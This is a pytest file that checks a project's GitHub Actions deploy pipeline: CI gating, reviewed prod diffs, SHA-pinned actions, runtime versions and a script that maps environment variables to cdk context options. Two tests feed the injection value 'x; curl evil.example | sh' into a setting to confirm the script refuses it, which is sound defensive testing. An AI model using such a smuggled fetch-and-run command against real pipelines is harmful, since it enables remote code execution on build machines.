"""The delivery path as written: deploys only for a commit whose CI passed, prod's diff before its reviewers
approve and prod deployed from that very assembly, Node 22 LTS, actions pinned by SHA, the Lambda runtime's
interpreter on every deploy machine, and stage settings from GitHub variables without a code change."""

from __future__ import annotations

import json
import os
import re
import subprocess
from dataclasses import fields
from typing import Any

import pytest
import yaml

from infra.config import StageConfig, _camel
from tests.infra.conftest import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
ACTIONS = ROOT / ".github" / "actions"
STAGE_CONTEXT = ROOT / ".github" / "scripts" / "stage-context.sh"
PINNED = re.compile(r"^[\w.-]+/[\w.-]+@[0-9a-f]{40} # v\d+(\.\d+)*$")


def load(path: Any) -> dict[str, Any]:
    return yaml.safe_load(path.read_text())  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def deploy() -> dict[str, Any]:
    return load(WORKFLOWS / "deploy.yml")


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return job.get("steps", [])  # type: ignore[no-any-return]


def scripts(job: dict[str, Any]) -> str:
    return "\n".join(step.get("run", "") for step in steps(job))


def needs(job: dict[str, Any]) -> set[str]:
    value = job.get("needs", [])
    return {value} if isinstance(value, str) else set(value)


def test_deploy_runs_only_after_ci_passed_for_the_commit(deploy: dict[str, Any]) -> None:
    triggers = deploy[True]  # YAML reads the key `on` as True
    assert "push" not in triggers  # a push alone never deploys
    assert triggers["workflow_run"] == {"workflows": ["ci"], "types": ["completed"], "branches": ["main"]}
    gate = deploy["jobs"]["gate"]
    assert "github.event.workflow_run.conclusion == 'success'" in gate["if"]
    assert "gh run list" in scripts(gate) and "--status success" in scripts(gate) and "exit 1" in scripts(gate)
    for name, job in deploy["jobs"].items():
        if name != "gate":
            assert "gate" in needs(job), f"{name} does not wait for the CI gate"
            checkout = next(step for step in steps(job) if step.get("uses", "").startswith("actions/checkout@"))
            assert checkout["with"]["ref"] == "${{ needs.gate.outputs.sha }}"  # the commit CI passed, nothing newer


def test_prod_shows_its_diff_before_reviewers_approve_and_deploys_that_assembly(deploy: dict[str, Any]) -> None:
    jobs = deploy["jobs"]
    diff, prod = jobs["prod-diff"], jobs["prod"]
    assert diff["environment"] == "prod-diff" and prod["environment"] == "prod"
    assert "prod-diff" in needs(prod)
    assert "cdk diff --app cdk.out.prod --no-change-set" in scripts(diff)
    assert "GITHUB_STEP_SUMMARY" in scripts(diff)
    upload = next(step for step in steps(diff) if step.get("uses", "").startswith("actions/upload-artifact@"))
    download = next(step for step in steps(prod) if step.get("uses", "").startswith("actions/download-artifact@"))
    assert upload["with"]["name"] == download["with"]["name"]
    assert "cdk deploy --app cdk.out.prod Switchboard-prod" in scripts(prod)
    assert "synth" not in scripts(prod)  # nothing is built again after the review


def test_no_job_deploys_prod_without_the_reviewed_diff(deploy: dict[str, Any]) -> None:
    for name, job in deploy["jobs"].items():
        text = scripts(job)
        if "--require-approval never" in text and "prod" in text.lower():
            assert name == "prod" and "prod-diff" in needs(job)
        assert "Switchboard-prod" not in text or name in ("prod",), name


def test_dev_deploys_dev_only(deploy: dict[str, Any]) -> None:
    dev = deploy["jobs"]["dev"]
    assert dev["environment"] == "dev"
    assert "cdk deploy Switchboard-dev -c stage=dev" in scripts(dev)


def _uses(document: Any) -> list[str]:
    found: list[str] = []
    if isinstance(document, dict):
        for key, value in document.items():
            if key == "uses" and isinstance(value, str):
                found.append(value)
            else:
                found += _uses(value)
    elif isinstance(document, list):
        for value in document:
            found += _uses(value)
    return found


def _raw_uses(text: str) -> list[str]:
    return [line.split("uses:", 1)[1].strip() for line in text.splitlines() if "uses:" in line]


def test_every_action_is_pinned_by_sha_with_its_version_or_is_ours() -> None:
    files = [*WORKFLOWS.glob("*.yml"), *ACTIONS.glob("*/action.yml")]
    checked = 0
    for path in files:
        for used in _raw_uses(path.read_text()):
            assert used.startswith("./.github/actions/") or PINNED.match(used), f"{path.name}: {used}"
            checked += 1
    assert checked >= 10


def test_node_22_lts_everywhere_and_python_3_14_on_every_machine_that_bundles() -> None:
    documents = [load(path) for path in [*WORKFLOWS.glob("*.yml"), *ACTIONS.glob("*/action.yml")]]
    node_versions = {
        str(step["with"]["node-version"])
        for document in documents
        for step in _steps_anywhere(document)
        if step.get("uses", "").startswith("actions/setup-node@")
    }
    assert node_versions == {"22"}
    build_tools = load(ACTIONS / "build-tools" / "action.yml")
    (python,) = [s for s in build_tools["runs"]["steps"] if s.get("uses", "").startswith("actions/setup-python@")]
    assert "3.14" in python["with"]["python-version"].split()
    ci, deploy = load(WORKFLOWS / "ci.yml"), load(WORKFLOWS / "deploy.yml")
    for workflow in (ci, deploy):
        for job in workflow["jobs"].values():
            if any(command in scripts(job) for command in ("make synth", "make cfn-lint", "cdk ")):
                assert "./.github/actions/build-tools" in _uses(job)


def _steps_anywhere(document: Any) -> list[dict[str, Any]]:
    if isinstance(document, dict):
        found = [document] if "uses" in document else []
        for value in document.values():
            found += _steps_anywhere(value)
        return found
    if isinstance(document, list):
        return [step for value in document for step in _steps_anywhere(value)]
    return []


def test_only_check_only_synths_may_bundle_without_bytecode() -> None:
    makefile = (ROOT / "Makefile").read_text()
    targets = dict(re.findall(r"^([a-z-]+):.*?\n((?:\t.*\n)+)", makefile, flags=re.MULTILINE))
    assert "$(CHECK_ONLY)" in targets["synth"]
    for target in ("deploy", "diff", "destroy", "oidc"):
        assert "CHECK_ONLY" not in targets[target] and "allowAssetWithoutBytecode" not in targets[target]
    for path in [*WORKFLOWS.glob("*.yml"), *ACTIONS.glob("*/action.yml"), STAGE_CONTEXT]:
        assert "allowAssetWithoutBytecode" not in path.read_text(), path.name


def test_stage_settings_come_from_environment_variables_without_a_code_change(deploy: dict[str, Any]) -> None:
    # Given every setting the script knows, set as a GitHub environment variable would set it
    script = STAGE_CONTEXT.read_text()
    keys = re.search(r"KEYS=\(\n(.*?)\n\)", script, flags=re.DOTALL)
    assert keys is not None
    known = keys.group(1).split()
    context_keys = {_camel(field.name) for field in fields(StageConfig)}
    assert set(known) <= context_keys  # every one is a real setting
    env = {re.sub(r"([A-Z])", r"_\1", key).upper(): f"value-{index}" for index, key in enumerate(known)}
    env |= {"WEBHOOK_COLD_START": "provisioned", "ALARM_EMAIL": "", "EDGE_TRUSTED_CIDRS": "34.96.0.0/20, 10.0.0.0/8"}
    # When the script runs, Then each set variable becomes one --context option, and an empty one none
    result = subprocess.run(
        ["bash", str(STAGE_CONTEXT)],
        env={"PATH": os.environ["PATH"], **env},
        capture_output=True,
        text=True,
        check=True,
    )
    options = result.stdout.splitlines()
    assert "--context=webhookColdStart=provisioned" in options
    assert "--context=edgeTrustedCidrs=34.96.0.0/20,10.0.0.0/8" in options
    assert not [o for o in options if o.startswith("--context=alarmEmail=")]
    assert len(options) == len(known) - 1
    # And both jobs that synthesize pass every one of them through
    for name in ("dev", "prod-diff"):
        (step,) = [s for s in steps(deploy["jobs"][name]) if "stage-context.sh" in s.get("run", "")]
        assert set(step["env"]) >= set(env), name


def test_stage_context_refuses_what_no_setting_needs() -> None:
    result = subprocess.run(
        ["bash", str(STAGE_CONTEXT)],
        env={"PATH": os.environ["PATH"], "CONSOLE_DOMAIN_PREFIX": "x; curl evil.example | sh"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2 and result.stdout == ""
    assert "CONSOLE_DOMAIN_PREFIX" in result.stderr


@pytest.mark.parametrize("job", ["dev", "prod-diff"])
def test_a_refused_stage_setting_stops_the_deploy_before_cdk_runs(
    deploy: dict[str, Any], job: str, tmp_path: Any
) -> None:
    # Given the step as GitHub runs it (bash -eo pipefail), with cdk replaced by a recorder
    (step,) = [s for s in steps(deploy["jobs"][job]) if "stage-context.sh" in s.get("run", "")]
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    calls = tmp_path / "npx-calls"
    workdir = tmp_path / "checkout"  # what the step writes (diff.txt) stays out of the repository
    workdir.mkdir()
    (workdir / ".github").symlink_to(ROOT / ".github")
    (bin_dir / "npx").write_text(f'#!/usr/bin/env bash\necho "$*" >> {calls}\n')
    (bin_dir / "npx").chmod(0o755)

    def run(**variables: str) -> subprocess.CompletedProcess[str]:
        env = {
            "PATH": f"{bin_dir}:{os.environ['PATH']}",
            "RUNNER_TEMP": str(tmp_path),
            "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
            "SHA": "0" * 40,
            **variables,
        }
        command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
        return subprocess.run(command, cwd=workdir, env=env, capture_output=True, text=True, check=False)

    # When a variable holds what no setting needs, Then the step fails and cdk never runs
    refused = run(CONSOLE_DOMAIN_PREFIX="x; curl evil.example | sh")
    assert refused.returncode != 0 and "CONSOLE_DOMAIN_PREFIX" in refused.stderr
    assert not calls.exists()
    # And with good settings cdk gets each of them
    assert run(WEBHOOK_COLD_START="provisioned").returncode == 0
    assert "--context=webhookColdStart=provisioned" in calls.read_text().splitlines()[0]


@pytest.mark.parametrize(
    ("outputs", "expected"),
    [
        ({}, {"EDGE_PROTECTION": "false", "EDGE_ORIGIN_CHECK": ""}),
        (
            {"EdgeDistributionDomain": "d111.cloudfront.net", "EdgeOriginCheck": "enforced"},
            {"EDGE_PROTECTION": "true", "EDGE_ORIGIN_CHECK": "enforced"},
        ),
        (
            {"EdgeDistributionDomain": "d111.cloudfront.net", "EdgeOriginCheck": "report-only"},
            {"EDGE_PROTECTION": "true", "EDGE_ORIGIN_CHECK": "report-only"},
        ),
    ],
)
def test_the_smoke_test_learns_edge_protection_from_the_deployed_stack_s_outputs(
    deploy: dict[str, Any], outputs: dict[str, str], expected: dict[str, str], tmp_path: Any
) -> None:
    # No GitHub variable has to repeat what cdk.json or -c decided: the deploy's own outputs say it
    for job in ("dev", "prod"):
        (smoke,) = [s for s in steps(deploy["jobs"][job]) if s.get("uses") == "./.github/actions/smoke-test"]
        assert set(smoke["with"]) == {"stage", "smoke-signing-secret"}
    (step,) = load(ACTIONS / "smoke-test" / "action.yml")["runs"]["steps"]
    # Given cdk-outputs.json as `cdk deploy --outputs-file` writes it, and pytest replaced by a recorder
    stack = {"ApiUrl": "https://abc.execute-api.eu-west-1.amazonaws.com/", "PublicUrl": "https://calls.example.com/"}
    (tmp_path / "cdk-outputs.json").write_text(json.dumps({"Switchboard-dev": stack | outputs}))
    python = tmp_path / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text("#!/usr/bin/env bash\nenv > seen-env\n")
    python.chmod(0o755)
    env = {"PATH": os.environ["PATH"], "STAGE": "dev"}
    command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
    subprocess.run(command, cwd=tmp_path, env=env, check=True)
    seen = dict(line.split("=", 1) for line in (tmp_path / "seen-env").read_text().splitlines() if "=" in line)
    assert {key: seen.get(key, "") for key in expected} == expected
    assert seen["API_URL"] == stack["ApiUrl"] and seen["PUBLIC_URL"] == stack["PublicUrl"]


def test_ci_synthesizes_once() -> None:
    # make cfn-lint synthesizes (its prerequisite `synth`); a `make synth` step before it would do it twice
    ci = load(WORKFLOWS / "ci.yml")
    commands = [line.strip() for job in ci["jobs"].values() for line in scripts(job).splitlines()]
    assert commands.count("make cfn-lint") == 1 and "make synth" not in commands
    makefile = (ROOT / "Makefile").read_text()
    assert re.search(r"^cfn-lint: synth\b", makefile, flags=re.MULTILINE)
